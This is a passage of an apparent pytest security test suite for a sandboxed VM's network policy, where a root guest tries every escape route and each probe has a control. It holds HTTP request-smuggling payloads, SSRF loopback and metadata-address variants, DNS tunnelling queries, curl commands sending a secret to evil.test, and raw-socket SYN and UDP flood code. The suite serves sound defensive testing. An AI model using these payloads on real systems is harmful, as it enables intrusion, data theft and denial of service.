"""A hostile guest against the host: every way out that the network offers, tried and refused.

The guest here is root in a real QEMU VM and uses raw sockets, hand-made
DNS and HTTP bytes, and floods. Each test pairs the attack with a negative
control -- the same probe succeeding where it should -- so a test that
"passes" because its probe is broken fails instead. What
``test_network.py`` already proves is not repeated (TCP to host services
by gateway/host/metadata address, raw TCP on 80/443, plain ``CONNECT``,
secrets in headers to another host); this module extends it.

Upstreams are :mod:`hostile_upstreams` servers on the host that count every
connection they accept: "nothing reached the upstream" is checked on the
connection count, which a smuggled request cannot hide from. Every test
uses the shared ``vm`` template (restored per test, so a flood leaves
nothing behind) with its policy applied host-side.
"""

from __future__ import annotations

import collections
import contextlib
import ipaddress
import json
import socket
import struct
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from pytest_gondolin.netpolicy.http import policy as policy_module
from pytest_gondolin.netpolicy.http.ca import CertificateAuthority
from pytest_gondolin.netpolicy.http.policy import NetworkPolicy
from pytest_gondolin.netpolicy.http.secrets import Secret
from pytest_gondolin.netpolicy.limits import DriverLimits
from pytest_gondolin.vm.commands import GUEST_ENV
from pytest_gondolin.vm.machine import VM
from tests.integration.hostile_upstreams import CountingServer, counting_server, udp_listener

GATEWAY = "192.168.127.1"
SYNTHETIC_POOL = ipaddress.ip_network("198.18.0.0/15")
REAL_TOKEN = "real-escape-token-5d2b"  # must reach api.test in a header, and nowhere else


# --------------------------------------------------------------------------- fixtures


@dataclass
class Upstreams:
    plain: CountingServer
    tls: CountingServer
    ca_file: Path

    def totals(self) -> tuple[int, int]:
        """Connections and requests both upstreams got so far."""
        a, b = self.plain.tally.snapshot(), self.tls.tally.snapshot()
        return a[0] + b[0], a[1] + b[1]


@pytest.fixture(scope="module")
def upstreams(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Upstreams]:
    test_ca = CertificateAuthority.create("escape test upstream CA")
    ca_file = tmp_path_factory.mktemp("escape-ca") / "ca.pem"
    ca_file.write_bytes(test_ca.ca_pem)
    with (
        counting_server("plain") as plain,
        counting_server("tls", tls=test_ca.ssl_context_for("api.test")) as tls,
    ):
        yield Upstreams(plain, tls, ca_file)


def _policy(up: Upstreams, *, allow: tuple[str, ...] = (), **extra: Any) -> NetworkPolicy:
    resolve = {
        "api.test:80": f"127.0.0.1:{up.plain.port}",
        "api.test:443": f"127.0.0.1:{up.tls.port}",
        "other.test:80": f"127.0.0.1:{up.plain.port}",
        **extra.pop("resolve", {}),
    }
    return NetworkPolicy.from_options(
        allow_hosts=["api.test", "other.test", *allow],
        resolve=resolve,
        upstream_ca=str(up.ca_file),
        secrets={"API_TOKEN": Secret(value=REAL_TOKEN, hosts=["api.test"])},
        **extra,
    )


@pytest.fixture
def guarded(vm: VM, upstreams: Upstreams) -> VM:
    """The clean ``vm`` allowed to reach api.test and other.test (and holding API_TOKEN)."""
    vm.configure_network(_policy(upstreams))
    return vm


@pytest.fixture
def host_service() -> Iterator[CountingServer]:
    """An HTTP service on every host address (loopback included) that counts connections."""
    with counting_server("host-service", host="0.0.0.0") as server:
        yield server


def _rule(reason: str) -> str:
    """The ``[rule: ...]`` a record's reason ends with."""
    return reason.rsplit("[rule: ", 1)[-1].split("]", 1)[0]


def _status_code(status_line: str) -> int | str:
    """The status code of an HTTP status line, or the line itself if it is not one."""
    parts = status_line.split(" ")
    return int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else status_line


def py(vm: VM, code: str, *, timeout: float = 120) -> Any:
    """Run ``code`` with the guest's python3; it prints one JSON document, returned decoded."""
    r = vm.exec(["python3", "-c", code], timeout=timeout)
    assert r.returncode == 0, f"guest script failed:\n{r.stdout}\n{r.stderr}"
    return json.loads(r.stdout.strip().splitlines()[-1])


def _host_addresses() -> list[str]:
    found: set[str] = set()
    with contextlib.suppress(OSError):
        for info in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET):
            found.add(str(info[4][0]))
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(("192.0.2.1", 9))  # picks the outgoing address; sends nothing
        found.add(s.getsockname()[0])
    return sorted(a for a in found if not ipaddress.ip_address(a).is_loopback)


# Raw HTTP exchange helpers shipped into the guest (python3 there is 3.11, stdlib only).
GUEST_RAW = r"""
import json, socket, ssl, sys

def exchange(host, port, payload, *, tls=False, sni=None, timeout=15):
    sock = socket.create_connection((host, port), timeout=timeout)
    if tls:
        ctx = ssl.create_default_context()
        if sni is None:
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
        sock = ctx.wrap_socket(sock, server_hostname=sni)
    try:
        sock.sendall(payload)
        data = b""
        while True:
            try:
                chunk = sock.recv(65536)
            except (ConnectionResetError, ssl.SSLError, TimeoutError):
                break
            if not chunk:
                break
            data += chunk
    finally:
        sock.close()
    return data.decode("latin-1")

def status(text):
    return text.split("\r\n", 1)[0] if text else "<nothing>"
"""


# --------------------------------------------------------------------------- addresses


def test_udp_and_icmp_to_every_address_go_nowhere(
    vm: VM, upstreams: Upstreams, host_service: CountingServer
) -> None:
    """UDP and ICMP (with a payload) to the host, metadata and synthetic addresses never leave.

    Negative controls: the same UDP datagram sent on the host does arrive;
    a ping to the gateway (the only ICMP peer) is answered; the raw ICMP
    capture on the host (when we may open one) sees our own marked ping.
    """
    vm.configure_network(_policy(upstreams, allow=("*",)))
    marker = f"GONDOLIN-ESCAPE-{uuid.uuid4().hex}".encode()
    targets = [GATEWAY, "10.0.2.2", "169.254.169.254", "198.18.0.1", "198.19.255.250"]
    targets += ["8.8.8.8", *_host_addresses()]
    capture: socket.socket | None = None
    with contextlib.suppress(PermissionError):
        capture = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        capture.setblocking(False)
    with udp_listener() as (udp_port, got):
        code = (
            "import json, os, socket, struct\n"
            f"targets, marker, port = {targets!r}, {marker!r}, {udp_port}\n"
            "def csum(b):\n"
            "    if len(b) % 2: b += b'\\0'\n"
            "    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))\n"
            "    s = (s >> 16) + (s & 0xffff); s += s >> 16\n"
            "    return ~s & 0xffff\n"
            "out = dict.fromkeys(targets, 'no reply')\n"
            "r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n"
            "hdr = struct.pack('!BBHHH', 8, 0, 0, 0x4242, 1)\n"
            "pkt = struct.pack('!BBHHH', 8, 0, csum(hdr + marker), 0x4242, 1) + marker\n"
            "for t in targets:\n"
            "    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "    for p in (port, 53, 123):\n"
            "        u.sendto(marker, (t, p))\n"
            "    u.close()\n"
            "    r.sendto(pkt, (t, 0))\n"
            "r.settimeout(3)\n"
            "try:\n"
            "    while True:\n"
            "        data, src = r.recvfrom(65536)\n"
            "        ihl = (data[0] & 15) * 4\n"
            "        if data[ihl] == 0 and marker in data:\n"
            "            out[src[0]] = 'reply'\n"
            "except OSError:\n"
            "    pass\n"
            "print(json.dumps(out))\n"
        )
        before = vm.network.counters if vm.network else {}
        replies = py(vm, code)
        time.sleep(0.5)  # let any stray datagram land before we look
        # Negative control for the UDP listener: a datagram from the host arrives.
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"host-control", ("127.0.0.1", udp_port))
        deadline = time.monotonic() + 5
        while b"host-control" not in got and time.monotonic() < deadline:
            time.sleep(0.05)
        assert got == [b"host-control"], got
    assert replies.pop(GATEWAY) == "reply"  # the one address that answers ping
    assert set(replies.values()) == {"no reply"}, replies
    after = vm.network.counters if vm.network else {}
    dropped_icmp = after.get("drop.icmp-not-gateway", 0) - before.get("drop.icmp-not-gateway", 0)
    dropped_udp = after.get("drop.udp-not-dns", 0) - before.get("drop.udp-not-dns", 0)
    assert dropped_icmp == len(targets) - 1, after
    # Every datagram but the one to the gateway's DNS port (which the resolver refuses).
    assert dropped_udp == 3 * len(targets) - 1, after
    assert host_service.tally.snapshot() == (0, 0)
    if capture is not None:
        # Negative control for the capture: the host's own marked ping is seen.
        seen = _drain_icmp(capture)
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
            s.sendto(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"host-" + marker, ("127.0.0.1", 0))
        time.sleep(0.3)
        control = _drain_icmp(capture)
        capture.close()
        assert not any(marker in pkt and b"host-" + marker not in pkt for pkt in seen), (
            "a guest ICMP payload reached the host's IP stack"
        )
        assert any(b"host-" + marker in pkt for pkt in control)


def _drain_icmp(sock: socket.socket) -> list[bytes]:
    out: list[bytes] = []
    while True:
        try:
            out.append(sock.recv(65536))
        except BlockingIOError:
            return out


# Host header spellings that all mean "this machine" to some parser on the host.
LOOPBACK_HOSTS = [
    "localhost",
    "LOCALHOST.",
    "x.localhost",
    "127.0.0.1",
    "127.1",
    "0177.0.0.1",
    "2130706433",
    "0x7f000001",
    "0x7f.1",
    "0.0.0.0",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "10.0.2.2",
    "169.254.169.254",
    "198.18.0.1",
]


def test_loopback_by_any_spelling_is_refused(
    vm: VM, upstreams: Upstreams, host_service: CountingServer
) -> None:
    """With ``allow_hosts=["*"]``, every way of writing "the host itself" in Host is refused.

    Negative control: ``resolve`` pointing a name at the same loopback
    service reaches it (so the service would count a hit if one got through).
    """
    port = host_service.port
    vm.configure_network(
        _policy(upstreams, allow=("*",), resolve={f"loop.test:{port}": f"127.0.0.1:{port}"})
    )
    hosts = [*LOOPBACK_HOSTS, socket.gethostname(), "loop.test"]
    code = (
        GUEST_RAW
        + f"hosts, port = {hosts!r}, {port}\n"
        + "out = {}\n"
        + "for h in hosts:\n"
        + "    req = ('GET /escape HTTP/1.1\\r\\nHost: %s:%d\\r\\nConnection: close\\r\\n\\r\\n' % (h, port)).encode()\n"
        + "    out[h] = status(exchange('escape-probe.test', port, req))\n"
        + "print(json.dumps(out))\n"
    )
    statuses = py(vm, code)
    control = statuses.pop("loop.test")
    assert control.startswith("HTTP/1.1 200"), control
    assert host_service.tally.snapshot() == (1, 1)  # the control, and nothing else
    refused = {h: s for h, s in statuses.items() if s.split(" ")[1:2] in (["400"], ["403"])}
    assert refused == statuses, statuses
    assert vm.http is not None
    records = [ex for ex in vm.http.requests if ex.path == "/escape" and ex.host != "loop.test"]
    assert records and all(ex.decision == "denied" for ex in records)


# --------------------------------------------------------------------------- DNS


GUEST_DNS = r"""
import json, os, socket, struct

def query(name, qtype=1, raw_name=None):
    qid = int.from_bytes(os.urandom(2), "big")
    wire = raw_name if raw_name is not None else b"".join(
        bytes([len(p)]) + p for p in name.encode().split(b".")) + b"\0"
    msg = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + wire + struct.pack("!HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    try:
        s.sendto(msg, ("192.168.127.1", 53))
        data = s.recv(4096)
    except OSError as exc:
        return {"error": type(exc).__name__}
    finally:
        s.close()
    rid, flags, qd, an = struct.unpack("!HHHH", data[:8])
    answer = None
    if an:
        answer = socket.inet_ntoa(data[-4:])
    return {"rcode": flags & 15, "answers": an, "a": answer, "id_ok": rid == qid}
"""


def test_dns_cannot_tunnel_and_never_asks_the_host_resolver(
    guarded: VM, upstreams: Upstreams, monkeypatch: pytest.MonkeyPatch
) -> None:
    """TXT, long labels, many unique names and DNS to other servers: answered or refused here.

    The host's resolver is spied on (``socket.getaddrinfo`` & co. and the
    resolver ``resolve_upstream`` uses). Nothing the guest asks reaches it,
    not even the host's own name, which the host *can* resolve: the guest
    gets a synthetic address instead (the policy names these names, so
    they are answered at all; a name it does not know gets NXDOMAIN).
    Negative control: an allowed name without a ``resolve`` entry does
    reach the spy when the guest fetches it.
    """
    asked: list[str] = []
    lock = threading.Lock()

    def spy(real: Callable[..., Any]) -> Callable[..., Any]:
        def wrapper(host: Any, *args: Any, **kwargs: Any) -> Any:
            with lock:
                asked.append(str(host))
            return real(host, *args, **kwargs)

        return wrapper

    for name in ("getaddrinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr"):
        monkeypatch.setattr(socket, name, spy(getattr(socket, name)))
    monkeypatch.setattr(policy_module.resolve_upstream, "__defaults__", (spy(socket.getaddrinfo),))
    tag = uuid.uuid4().hex[:12]
    own_name = socket.gethostname()
    long_name = ".".join([("a" * 55) + tag[:8]] * 3) + ".tunnel.test"
    guarded.configure_network(_policy(upstreams, allow=("*.tunnel.test", own_name)))
    code = (
        GUEST_DNS
        + f"tag, own, long_name = {tag!r}, {own_name!r}, {long_name!r}\n"
        + "out = {}\n"
        + "out['txt'] = query('exfil-%s.tunnel.test' % tag, qtype=16)\n"
        + "out['any'] = query('exfil-%s.tunnel.test' % tag, qtype=255)\n"
        + "out['aaaa'] = query('exfil-%s.tunnel.test' % tag, qtype=28)\n"
        + "out['long'] = query(long_name)\n"
        + "out['too_long'] = query('', raw_name=(bytes([63]) + b'b' * 63) * 5 + b'\\0')\n"
        + "out['own'] = query(own)\n"
        + "out['unknown'] = query('exfil-%s.elsewhere.test' % tag)\n"
        + "out['unique'] = [query('n%d-%s.tunnel.test' % (i, tag))['a'] for i in range(300)]\n"
        + "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)\n"
        + "s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01x\\x00\\x00\\x01\\x00\\x01', ('8.8.8.8', 53))\n"
        + "try:\n    s.recv(512); out['other_server'] = 'answered'\n"
        + "except OSError:\n    out['other_server'] = 'silence'\n"
        + "try:\n"
        + "    t = socket.create_connection(('192.168.127.1', 53), timeout=5)\n"
        + "    t.sendall(b'\\x00\\x11' + b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01x\\x00\\x00\\x10\\x00\\x01')\n"
        + "    out['tcp'] = repr(t.recv(512))\n"
        + "except OSError as exc:\n    out['tcp'] = type(exc).__name__\n"
        + "print(json.dumps(out))\n"
    )
    out = py(guarded, code)
    # TXT/ANY/AAAA: NOERROR without answers (nothing to carry data back).
    for kind in ("txt", "any", "aaaa"):
        assert (out[kind]["rcode"], out[kind]["answers"]) == (0, 0), out[kind]
    assert out["long"]["rcode"] == 0
    assert ipaddress.ip_address(out["long"]["a"]) in SYNTHETIC_POOL
    assert out["too_long"]["rcode"] == 1  # FORMERR: over 255 octets
    assert ipaddress.ip_address(out["own"]["a"]) in SYNTHETIC_POOL
    assert (out["unknown"]["rcode"], out["unknown"]["a"]) == (3, None)  # NXDOMAIN
    unique = out["unique"]
    assert len(set(unique)) == 300 and all(
        ipaddress.ip_address(a) in SYNTHETIC_POOL for a in unique
    )
    assert out["other_server"] == "silence"  # UDP to any other server goes nowhere
    assert out["tcp"] in ("ConnectionResetError", "b''"), out["tcp"]  # DNS over TCP: not HTTP, cut
    with lock:
        leaked = [h for h in asked if tag in h or h == own_name]
    assert leaked == [], f"the guest's DNS reached the host resolver: {leaked}"
    assert guarded.http is not None
    (tcp53,) = guarded.http.get_requests(host=GATEWAY)
    assert tcp53.port == 53 and tcp53.decision == "denied" and "not-http" in tcp53.reason

    # Negative control: an allowed host with no resolve entry is resolved on the host.
    control_name = f"spy-{tag}.invalid"
    guarded.configure_network(NetworkPolicy.from_options(allow_hosts=[control_name]))
    r = guarded.exec(f"curl -s -m 20 -o /dev/null -w '%{{http_code}}' http://{control_name}/")
    assert r.stdout == "502", r.stdout  # it does not resolve, but the host did ask
    with lock:
        assert control_name in asked


# --------------------------------------------------------------------------- HTTP framing


def _cases(tag: str) -> dict[str, bytes]:
    """Request-smuggling and framing attacks; each is followed by a pipelined request."""
    follow = f"GET /smuggled-{tag} HTTP/1.1\r\nHost: api.test\r\n\r\n"
    head = "POST /front HTTP/1.1\r\nHost: api.test\r\n"
    return {
        name: wire.encode("latin-1")
        for name, wire in {
            "cl-te": head
            + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
            + follow,
            "te-cl": head
            + "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n"
            + follow,
            "cl-cl": head + "Content-Length: 4\r\nContent-Length: 44\r\n\r\nabcd" + follow,
            "te-obfuscated": head + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + follow,
            "te-list": head + "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + follow,
            "te-space": head + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + follow,
            "nul-header": head + "X-A: a\x00b\r\nContent-Length: 0\r\n\r\n" + follow,
            "two-hosts": "GET /x HTTP/1.1\r\nHost: api.test\r\nHost: evil.test\r\n\r\n" + follow,
            "absolute-other": "GET http://evil.test/x HTTP/1.1\r\nHost: api.test\r\n\r\n" + follow,
            "chunk-overflow": head
            + "Transfer-Encoding: chunked\r\n\r\n"
            + "f" * 21
            + "\r\nx\r\n0\r\n\r\n"
            + follow,
            "connect": "CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n" + follow,
        }.items()
    }


EXPECTED_STATUS = {
    "cl-te": 400,
    "te-cl": 400,
    "cl-cl": 400,
    "te-obfuscated": 501,
    "te-list": 501,
    "te-space": 400,
    "nul-header": 400,
    "two-hosts": 400,
    "absolute-other": 400,
    "chunk-overflow": 400,
    "connect": 405,
}


def test_request_smuggling_is_refused_and_never_reaches_upstream(
    guarded: VM, upstreams: Upstreams
) -> None:
    """Ambiguous framing, over plain HTTP and inside TLS, is refused before any upstream I/O.

    Each attack carries a pipelined ``GET /smuggled-<tag>`` behind it; the
    host closes after refusing, so that request is never mediated either.
    Negative control: a well-formed chunked POST with the same pipelined
    GET behind it reaches the upstream as exactly two requests, re-framed
    by the host (so raw guest bytes never reach an upstream parser).
    """
    tag = uuid.uuid4().hex[:8]
    cases = _cases(tag)
    assert set(cases) == set(EXPECTED_STATUS)
    control = (
        "POST /control HTTP/1.1\r\nHost: api.test\r\nX-Folded: a\r\n b\r\n"
        "Transfer-Encoding: chunked\r\n\r\n"
        f"5\r\nhello\r\n0\r\n\r\nGET /smuggled-{tag}-control HTTP/1.1\r\nHost: api.test\r\n"
        "Connection: close\r\n\r\n"
    ).encode()
    code = (
        GUEST_RAW
        + f"cases, control = {cases!r}, {control!r}\n"
        + "out = {}\n"
        + "for name, wire in cases.items():\n"
        + "    out['http:' + name] = status(exchange('api.test', 80, wire))\n"
        + "    if name in ('cl-te', 'cl-cl', 'te-obfuscated', 'connect', 'absolute-other'):\n"
        + "        out['tls:' + name] = status(exchange('api.test', 443, wire, tls=True, sni='api.test'))\n"
        + "print(json.dumps(out))\n"
    )
    before = upstreams.totals()
    out = py(guarded, code)
    assert upstreams.totals() == before, "a refused request reached an upstream"
    got = {name: _status_code(line) for name, line in out.items()}
    expected = {f"http:{n}": s for n, s in EXPECTED_STATUS.items()}
    expected |= {
        f"tls:{n}": EXPECTED_STATUS[n]
        for n in ("cl-te", "cl-cl", "te-obfuscated", "connect", "absolute-other")
    }
    assert got == expected
    assert guarded.http is not None
    records = guarded.http.requests
    assert len(records) == len(expected)
    assert all(ex.decision == "denied" for ex in records)
    assert {_rule(ex.reason) for ex in records} <= {
        "smuggling",
        "http-protocol",
        "host-header",
        "connect",
    }
    assert not any(f"smuggled-{tag}" in p for p in upstreams.plain.tally.paths())

    # Negative control: legitimate chunking plus pipelining does reach the upstream.
    reply = py(guarded, GUEST_RAW + f"print(json.dumps(exchange('api.test', 80, {control!r})))\n")
    assert reply.count("HTTP/1.1 200") == 2, reply
    assert upstreams.plain.tally.paths()[-2:] == ["/control", f"/smuggled-{tag}-control"]
    first = upstreams.plain.tally.requests[-2]
    assert first.body == b"hello" and "Transfer-Encoding" not in first.headers
    # The host re-frames what it forwards: the chunked body arrives with a
    # Content-Length and the obsolete line folding is unfolded (RFC 9112 §5.2).
    assert (first.headers["Content-Length"], first.headers["X-Folded"]) == ("5", "a b")


def test_sni_and_host_must_agree(guarded: VM, upstreams: Upstreams) -> None:
    """``netpolicy/http/interceptor.py``'s rule: for TLS the Host header must equal the SNI, else 421.

    Both names are allowed, so only the mismatch rule can refuse. Negative
    control: SNI and Host both ``api.test`` reaches the TLS upstream.
    """
    cases = {
        "match": ("api.test", "api.test"),
        "host-differs": ("api.test", "other.test"),
        "sni-differs": ("other.test", "api.test"),
        "sni-denied-host": ("evil.test", "api.test"),
        "port-differs": ("api.test", "api.test:8443"),
    }
    code = (
        GUEST_RAW
        + f"cases = {cases!r}\n"
        + "out = {}\n"
        + "for name, (sni, host) in cases.items():\n"
        + "    req = ('GET /sni-%s HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' % (name, host)).encode()\n"
        + "    out[name] = status(exchange('api.test', 443, req, tls=True, sni=sni))\n"
        + "print(json.dumps(out))\n"
    )
    before = upstreams.tls.tally.snapshot()
    out = py(guarded, code)
    assert out.pop("match").startswith("HTTP/1.1 200")
    assert upstreams.tls.tally.paths()[before[1] :] == ["/sni-match"]
    assert {name: line.split(" ")[1] for name, line in out.items()} == dict.fromkeys(out, "421")
    assert guarded.http is not None
    refused = [ex for ex in guarded.http.requests if ex.status == 421]
    assert len(refused) == 4 and all("[rule: misdirected]" in ex.reason for ex in refused)


# --------------------------------------------------------------------------- redirects


def test_redirects_to_internal_addresses_stay_in_the_guest_or_are_denied(
    guarded: VM, upstreams: Upstreams, host_service: CountingServer
) -> None:
    """The host passes a 302 through; the guest's follow-up is a new request judged on its own.

    ``127.0.0.1`` is the guest's own loopback (nothing listens there);
    the metadata address, ``10.0.2.2`` and an internal name are mediated
    and denied. Negative control: a redirect to an allowed host is
    followed to the upstream.
    """
    port = host_service.port
    targets = {
        "loopback": f"http://127.0.0.1:{port}/internal",
        "metadata": "http://169.254.169.254/latest/meta-data/",
        "slirp-host": f"http://10.0.2.2:{port}/internal",
        "internal-name": "http://internal.corp.test/admin",
        "allowed": "http://api.test/landing",
    }
    script = "; ".join(
        f"code=$(curl -s -L -m 20 -o /dev/null -w '%{{http_code}}' "
        f"'http://api.test/redirect?to={url}'); echo {name} $code $?"
        for name, url in targets.items()
    )
    r = guarded.exec(script, timeout=180)
    codes = {line.split()[0]: tuple(line.split()[1:]) for line in r.stdout.splitlines()}
    assert codes == {
        # curl reports the last status it got (the 302) and exit 7: the
        # guest's own loopback refused the connection.
        "loopback": ("302", "7"),
        "metadata": ("403", "0"),
        "slirp-host": ("403", "0"),
        # A name the policy does not know: the guest's lookup fails (exit 6).
        "internal-name": ("302", "6"),
        "allowed": ("200", "0"),
    }, r.stdout
    assert host_service.tally.snapshot() == (0, 0)
    assert "/landing" in upstreams.plain.tally.paths()
    assert guarded.http is not None
    assert [ex.status for ex in guarded.http.get_requests(path="/redirect")] == [302] * 5
    assert guarded.http.get_requests(host="127.0.0.1") == []  # never left the guest
    for host in ("169.254.169.254", "10.0.2.2", "internal.corp.test"):
        (ex,) = guarded.http.get_requests(host=host)
        assert ex.decision == "denied", ex


def test_redirect_to_a_name_the_host_resolves_internally_is_denied(
    vm: VM, upstreams: Upstreams, host_service: CountingServer
) -> None:
    """Even with ``allow_hosts=["*"]``, a redirect to the host's own name is denied at connect time."""
    hostname = socket.gethostname()
    try:
        address = socket.gethostbyname(hostname)
    except OSError:
        pytest.skip(f"the host name {hostname!r} does not resolve on this host")
    if not ipaddress.ip_address(address).is_private:
        pytest.skip(f"{hostname} resolves to a public address here")
    vm.configure_network(_policy(upstreams, allow=("*",)))
    url = f"http://{hostname}:{host_service.port}/internal"
    r = vm.exec(
        f"curl -s -L -m 20 'http://api.test/redirect?to={url}' -w '\\n%{{http_code}}'", timeout=60
    )
    assert r.stdout.splitlines()[-1] == "403", r.stdout
    assert "rule: block_internal" in r.stdout
    assert host_service.tally.snapshot() == (0, 0)


# --------------------------------------------------------------------------- secrets


def test_secret_placeholders_cannot_be_exfiltrated(guarded: VM, upstreams: Upstreams) -> None:
    """A placeholder in the URL, the body, a header name, or going to another host is refused.

    Encoded or case-changed placeholders are not recognised -- and so not
    substituted: they travel as the meaningless random text they are. The
    real value reaches the upstream exactly once, in the one allowed place
    (the negative control), and appears nowhere else: not in any other
    request upstream, the records, or anything the guest received.
    """
    placeholder = guarded.secret_env()["API_TOKEN"]
    cases = {
        "header-allowed": 'curl -H "Authorization: Bearer $P" http://api.test/ok',
        "url-query": 'curl "http://api.test/leak?t=$P"',
        "url-path": 'curl "http://api.test/$P"',
        "body": 'curl --data-binary "$P" http://api.test/leak',
        "header-name": 'curl -H "X-$P: 1" http://api.test/leak',
        "other-host-header": 'curl -H "Authorization: Bearer $P" http://other.test/leak',
        "other-host-basic": 'curl -u "user:$P" http://other.test/leak',
        "tls-url": 'curl "https://api.test/leak?t=$P"',
        "denied-host": 'curl -H "X-T: $P" http://evil.test/leak',
        "encoded-url": 'curl "http://api.test/encoded?t=$E"',
        "lowercase-header": 'curl -H "X-T: $L" http://other.test/lower',
    }
    script = "; ".join(
        f"echo '=== {name}'; {cmd.replace('curl ', 'curl -s -m 20 ', 1)}"
        for name, cmd in cases.items()
    )
    env = {
        **GUEST_ENV,
        "P": placeholder,
        "E": placeholder.replace("_", "%5F"),
        "L": placeholder.lower(),
    }
    before = upstreams.totals()
    r = guarded.exec(script, env=env, timeout=240)
    assert r.stdout.count("=== ") == len(cases), r.stdout + r.stderr
    assert guarded.http is not None
    by_rule = collections.Counter(_rule(ex.reason) for ex in guarded.http.requests)
    assert (by_rule["secrets"], by_rule["dns"]) == (7, 1), by_rule  # evil.test: not resolved
    # Exactly three requests left the host: the allowed header and the two unrecognised forms.
    assert upstreams.totals()[1] - before[1] == 3
    new = upstreams.plain.tally.requests[-3:]
    assert [s.path.split("?")[0] for s in new] == ["/ok", "/encoded", "/lower"]
    assert new[0].headers["Authorization"] == f"Bearer {REAL_TOKEN}"
    assert REAL_TOKEN not in "\n".join(f"{s.path} {s.headers} {s.body!r}" for s in new[1:]), (
        "a placeholder in the wrong place was substituted"
    )
    assert REAL_TOKEN not in upstreams.tls.tally.everything()
    assert REAL_TOKEN not in guarded.http.to_json()
    assert REAL_TOKEN not in r.stdout + r.stderr
    records = {ex.path: ex for ex in guarded.http.requests}
    assert records["/ok"].decision == "allowed"


# --------------------------------------------------------------------------- floods


def _proc_status() -> dict[str, int]:
    out: dict[str, int] = {}
    for line in Path("/proc/self/status").read_text().splitlines():
        key, _, value = line.partition(":")
        if key in ("VmRSS", "VmHWM", "Threads"):
            out[key] = int(value.split()[0])
    out["fds"] = len(list(Path("/proc/self/fd").iterdir()))
    return out


def _reset_peak_rss() -> bool:
    try:
        Path("/proc/self/clear_refs").write_text("5")  # Linux >= 4.0: VmHWM := VmRSS
    except OSError:
        return False
    return True


#: Host memory a flood may cost. The guest pushes 128 MiB (stdout) or tens
#: of thousands of packets; without bounds either would cost far more.
FLOOD_RSS_BUDGET_KIB = 32 * 1024


def test_stdout_flood_is_truncated_and_host_memory_bounded(vm: VM) -> None:
    """``head -c 128M /dev/zero`` with ``max_output=1 MiB``: 1 MiB arrives, host peak RSS barely moves.

    Negative control: 40 MiB of output without a small cap does raise the
    host's peak RSS by at least that much (so the measurement can fail).
    """
    if not _reset_peak_rss():
        pytest.skip("cannot reset the peak RSS (/proc/self/clear_refs)")
    start = _proc_status()
    r = vm.exec("head -c 128M /dev/zero", max_output=1 << 20, timeout=300)
    flood = _proc_status()
    assert r.truncated and len(r.stdout_bytes) == 1 << 20
    assert flood["VmHWM"] - start["VmRSS"] < FLOOD_RSS_BUDGET_KIB, (start, flood)
    assert vm.exec("echo alive").stdout == "alive\n"  # the channel is still in sync

    _reset_peak_rss()
    base = _proc_status()
    big = vm.exec("head -c 40M /dev/zero", timeout=300)
    control = _proc_status()
    assert len(big.stdout_bytes) == 40 << 20
    assert control["VmHWM"] - base["VmRSS"] >= 40 * 1024, (base, control)


GUEST_FLOOD = r"""
import json, os, random, socket, struct, sys, time

def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff

src = "192.168.127.3"
dst = socket.gethostbyname("api.test")
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.setblocking(False)
stop = time.monotonic() + float(sys.argv[1])
syn = dgrams = 0
while time.monotonic() < stop:
    for _ in range(50):
        sport = random.randint(20000, 60000)
        for target, dport in ((dst, 80), ("192.168.127.1", random.randint(1, 65535))):
            hdr = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
            pseudo = socket.inet_aton(src) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, len(hdr))
            hdr = hdr[:16] + struct.pack("!H", csum(pseudo + hdr)) + hdr[18:]
            try:
                raw.sendto(hdr, (target, 0))
                syn += 1
            except OSError:  # ENOBUFS: the guest's own queue is full
                pass
        for target in (("192.168.127.1", 53), ("192.168.127.1", 9), ("8.8.8.8", 53)):
            try:
                udp.sendto(os.urandom(64), target)
                dgrams += 1
            except OSError:
                pass
print(json.dumps({"syn": syn, "udp": dgrams}))
"""


def test_network_floods_leave_the_host_responsive(guarded: VM, upstreams: Upstreams) -> None:
    """A SYN flood (raw sockets, as root), a UDP flood and a connection flood from one guest.

    While the packet flood runs, an allowed request from the same guest
    completes, and the host's agent channel answers. Connections beyond
    the flow cap are refused (and the refused count is the proof the cap
